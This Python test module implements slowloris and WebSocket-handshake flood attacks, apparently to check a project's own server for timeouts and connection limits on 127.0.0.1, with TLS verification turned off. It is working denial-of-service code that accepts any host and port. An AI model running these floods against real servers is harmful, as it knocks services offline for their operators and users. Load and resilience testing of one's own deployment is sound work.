"""Attacks for the deployment tests, run as their own process so the attacker's CPU isn't the victim's.

``python -m tests.attack slowloris HOST PORT COUNT`` opens COUNT TLS connections (100 a second) and sends each a
request head one header line a second, never finishing it; it prints, as JSON, how many seconds each
lasted before the server cut it (None if it lasted past ``--max``).

``python -m tests.attack flood HOST PORT COUNT PATH`` opens COUNT TLS WebSocket handshakes at once,
holds the accepted ones for ``--hold`` seconds, and prints the count of each HTTP status it got.

The certificate is not verified (a throw-away one for 127.0.0.1).
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import json
import ssl
import time

HANDSHAKE = (
    "GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)


def _insecure() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # no CA store: loading it per connection costs ~20 ms
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


INSECURE = _insecure()


async def slow_client(host: str, port: int, longest: float, delay: float) -> float | str | None:
    await asyncio.sleep(delay)  # connections open at a steady pace, as a slowloris opens them
    started = time.monotonic()
    try:
        reader, writer = await asyncio.open_connection(host, port, ssl=INSECURE)
    except OSError as exc:
        return f"connect failed after {time.monotonic() - started:.2f}s: {exc!r}"
    try:
        writer.write(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        await writer.drain()
        n = 0
        while time.monotonic() - started < longest:
            try:
                data = await asyncio.wait_for(reader.read(1024), 1.0)  # the pace of a slowloris: a line a second
            except asyncio.TimeoutError:
                writer.write(b"X-Slow-%d: %d\r\n" % (n, n))
                await writer.drain()
                n += 1
                continue
            if not data:  # the server cut it (nginx sends no 408 for a header timeout, it just closes)
                return time.monotonic() - started
        return None
    except (OSError, ssl.SSLError):
        return time.monotonic() - started
    finally:
        writer.close()


async def slowloris(host: str, port: int, count: int, longest: float) -> list[float | str | None]:
    return list(await asyncio.gather(*(slow_client(host, port, longest, n * 0.01) for n in range(count))))


async def handshake(host: str, port: int, path: str, hold: asyncio.Event) -> str:
    try:
        reader, writer = await asyncio.open_connection(host, port, ssl=INSECURE)
    except OSError as exc:
        return f"connect failed: {type(exc).__name__}"
    try:
        writer.write(HANDSHAKE.format(path=path).encode())
        await writer.drain()
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 30)
        status = head.split(b" ", 2)[1].decode()
        if status == "101":
            await hold.wait()
        return status
    except (OSError, ssl.SSLError, asyncio.IncompleteReadError, asyncio.TimeoutError) as exc:
        return f"failed: {type(exc).__name__}"
    finally:
        writer.close()


async def flood(host: str, port: int, count: int, path: str, hold_for: float) -> dict[str, int]:
    hold = asyncio.Event()
    tasks = [asyncio.ensure_future(handshake(host, port, path, hold)) for _ in range(count)]
    await asyncio.sleep(hold_for)  # the accepted ones stay open this long: the attack's duration
    hold.set()
    return dict(collections.Counter(await asyncio.gather(*tasks)))


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=["slowloris", "flood"])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("count", type=int)
    parser.add_argument("path", nargs="?", default="/ws/echo/")
    parser.add_argument("--max", type=float, default=30.0)
    parser.add_argument("--hold", type=float, default=5.0)
    args = parser.parse_args()
    if args.attack == "slowloris":
        result: object = asyncio.run(slowloris(args.host, args.port, args.count, args.max))
    else:
        result = asyncio.run(flood(args.host, args.port, args.count, args.path, args.hold))
    print(json.dumps(result))


if __name__ == "__main__":
    main()
